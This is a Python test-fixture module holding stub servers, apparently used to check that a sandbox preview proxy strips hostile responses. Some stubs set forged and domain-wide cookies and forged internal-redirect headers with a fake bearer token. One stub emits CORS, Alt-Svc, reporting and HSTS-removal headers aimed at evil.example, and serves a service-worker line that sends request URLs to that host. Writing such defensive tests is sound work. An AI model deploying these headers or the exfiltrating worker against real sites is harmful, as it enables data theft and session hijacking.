"""Servers the port tests run inside sandboxes (standard library only: the default image has
no web framework). Uploaded as files and started with an exec that does not wait."""

HTTP = r"""
import http.server, json, sys

BIG = bytes(range(256)) * 16384  # 4 MiB


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def answer(self, body, kind="application/octet-stream"):
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Set-Cookie", "app=1; Path=/")
        # What a hostile server would set: a cookie for every host under the preview domain,
        # and one named like the preview link's.
        self.send_header("Set-Cookie", "wide=1; Domain=preview.test; Path=/")
        self.send_header("Set-Cookie", "airlock_preview=forged; Path=/")
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    def do_GET(self):
        if self.path.startswith("/big"):
            self.answer(BIG)
            return
        seen = {"path": self.path, "headers": {k.lower(): v for k, v in self.headers.items()}}
        self.answer(json.dumps(seen).encode(), "application/json")

    do_HEAD = do_GET

    def do_POST(self):
        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
            parts = []
            while True:
                size = int(self.rfile.readline().split(b";")[0], 16)
                if size == 0:
                    self.rfile.readline()
                    break
                parts.append(self.rfile.read(size))
                self.rfile.readline()
            body = b"".join(parts)
        else:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.answer(body)

    def log_message(self, *args):
        pass


http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
"""

WEBSOCKET = r"""
import base64, hashlib, socket, struct, sys, threading

GUID = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"


def frame(opcode, data):
    n = len(data)
    if n < 126:
        head = struct.pack(">BB", 0x80 | opcode, n)
    elif n < 65536:
        head = struct.pack(">BBH", 0x80 | opcode, 126, n)
    else:
        head = struct.pack(">BBQ", 0x80 | opcode, 127, n)
    return head + data


def serve(conn):
    f = conn.makefile("rb")
    key = b""
    while True:
        line = f.readline()
        if line in (b"\r\n", b""):
            break
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"sec-websocket-key":
            key = value.strip()
    accept = base64.b64encode(hashlib.sha1(key + GUID).digest())
    conn.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n"
                 b"Connection: Upgrade\r\nSec-WebSocket-Accept: " + accept + b"\r\n\r\n")
    while True:
        head = f.read(2)
        if len(head) < 2:
            return
        opcode, n = head[0] & 15, head[1] & 127
        if n == 126:
            n = struct.unpack(">H", f.read(2))[0]
        elif n == 127:
            n = struct.unpack(">Q", f.read(8))[0]
        mask = f.read(4) if head[1] & 128 else b"\0\0\0\0"
        data = f.read(n)
        data = bytes(b ^ mask[i % 4] for i, b in enumerate(data))
        if opcode == 8:
            conn.sendall(frame(8, data[:2]))
            return
        if opcode == 9:
            conn.sendall(frame(10, data))
            continue
        conn.sendall(frame(opcode, data))


listener = socket.socket()
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind(("127.0.0.1", int(sys.argv[1])))
listener.listen(16)
while True:
    c, _ = listener.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
"""

# Answers every GET with the headers that would send a proxy in front of the API elsewhere:
# an internal redirect to the proxy's node location, aimed at the URL given on its command line.
REDIRECTING = r"""
import http.server, sys

TARGET = sys.argv[2]


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        body = b"the sandbox's own answer"
        self.send_response(200)
        self.send_header("X-Accel-Redirect", "/_airlock/node")
        self.send_header("X-Accel-Buffering", "yes")
        self.send_header("Airlock-Offload-Url", TARGET)
        self.send_header("Airlock-Offload-Authorization", "Bearer forged")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
"""

# Answers every request with the headers by which a page could reach past its own port: a
# service worker's scope over the whole origin, CORS grants to another site, wiping the site's
# cookies, ending HSTS, reports of every network error sent elsewhere, a credential prompt...
WIDENING = r"""
import http.server, sys

HEADERS = [
    ("Service-Worker-Allowed", "/"),
    ("Access-Control-Allow-Origin", "https://evil.example"),
    ("Access-Control-Allow-Credentials", "true"),
    ("Access-Control-Allow-Private-Network", "true"),
    ("Clear-Site-Data", '"cookies", "storage"'),
    ("Strict-Transport-Security", "max-age=0; includeSubDomains"),
    ("Alt-Svc", 'h2="evil.example:443"; ma=86400'),
    ("NEL", '{"report_to": "x", "max_age": 86400, "include_subdomains": true}'),
    ("Report-To", '{"group": "x", "max_age": 86400, "endpoints": [{"url": "https://evil.example/"}]}'),
    ("Timing-Allow-Origin", "*"),
    ("Cross-Origin-Resource-Policy", "cross-origin"),
    ("WWW-Authenticate", 'Basic realm="airlock"'),
    ("Link", '</sw.js>; rel="serviceworker"; scope="/"'),
    ("Origin-Agent-Cluster", "?0"),
    # Its own policy, which would keep the API's origin: ours is added beside it.
    ("Content-Security-Policy", "sandbox allow-same-origin allow-scripts"),
    ("X-App", "kept"),
]
BODY = b"self.addEventListener('fetch', e => fetch('https://evil.example/?u=' + e.request.url));"


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript")
        self.send_header("Content-Length", str(len(BODY)))
        for name, value in HEADERS:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(BODY)

    def log_message(self, *args):
        pass


http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
"""
